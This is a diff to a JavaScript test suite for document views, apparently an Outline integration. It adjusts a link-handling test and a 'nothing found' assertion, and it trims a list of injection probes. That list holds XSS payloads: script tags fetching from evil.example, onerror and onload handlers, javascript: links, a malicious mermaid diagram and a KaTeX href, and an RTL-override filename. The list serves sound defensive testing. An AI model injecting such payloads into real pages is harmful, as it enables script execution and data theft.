@@ -97,8 +97,9 @@ describe("views", { skip }, () => {
   });
 
   it("open links through the host alone", async (t) => {
-    const id = await create("Links", "[away](https://example.com/x) [script](javascript:alert(1)) [data](data:text/html,x)");
-    const shown = await host.show(t, "read_document", { document_id: id });
+    // Outline stores no such links; an answer could still have them.
+    const text = "[away](https://example.com/x) [script](javascript:alert(1)) [data](data:text/html,x)";
+    const shown = await host.show(t, "read_document", {}, { answer: answerOf({ ...document, text }) });
     await shown.view.getByText("away").click();
     await shown.view.getByText("script").click();
     await shown.view.getByText("data", { exact: true }).click();
@@ -133,7 +134,7 @@ describe("views", { skip }, () => {
 
   it("say calmly that a call has failed", async (t) => {
     const shown = await host.show(t, "read_document", { document_id: "00000000-0000-4000-8000-000000000000" });
-    await shown.says(/Nothing found/);
+    await shown.says(/nothing found/);
     await shown.fits("not found");
   });
 
@@ -142,7 +143,7 @@ describe("views", { skip }, () => {
       `<script>parent.postMessage("x", "*"); fetch("https://evil.example/script")</script>`,
       `<img src="https://evil.example/img" onerror="alert(1)">`, `<svg onload="alert(1)"></svg>`, `<style>* { display: none }</style>`,
       `<iframe src="https://evil.example/frame"></iframe>`, `<a href="javascript:alert(1)">click</a>`, `<form action="https://evil.example/form"><input></form>`,
-      `![picture](https://evil.example/picture.png)`, `[reference]: https://evil.example/reference`, `\u202egnp.exe \u2066hidden`,
+      `![picture](https://evil.example/picture.png)`, `\u202egnp.exe \u2066hidden`,
       "```html\n<script>alert(1)</script>\n```", "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```", "$$\\href{javascript:alert(1)}{x}$$",
     ];
 
